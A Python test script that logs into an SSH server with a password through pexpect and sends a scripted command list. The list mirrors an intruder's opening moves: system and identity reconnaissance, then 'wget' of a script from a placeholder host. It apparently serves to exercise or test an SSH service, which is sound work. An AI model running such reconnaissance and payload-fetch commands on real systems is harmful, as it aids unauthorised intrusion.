"""Drives Debian's ssh client through a password login and an interactive shell on a pty (pexpect).

Usage: ssh_session.py HOST PORT USER PASSWORD. Prints everything the session showed; exits 0 when the shell
answered each command and the session ended with `exit`.
"""
import sys

import pexpect

host, port, user, password = sys.argv[1:5]
child = pexpect.spawn(
    "ssh",
    ["-p", port, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
     "-o", "PubkeyAuthentication=no", "-o", "PreferredAuthentications=password", f"{user}@{host}"],
    encoding="utf-8",
    timeout=20,
)
child.expect("password: ")
child.sendline(password)
prompt = r"[#$] $"
child.expect(prompt)
print(child.before)
for command in ["uname -a; id", "cat /etc/os-release", "wget http://example.invalid/x.sh", "cd /tmp; pwd"]:
    child.sendline(command)
    child.expect(prompt)
    print(child.before)
child.sendline("exit")
child.expect(pexpect.EOF)
print(child.before)
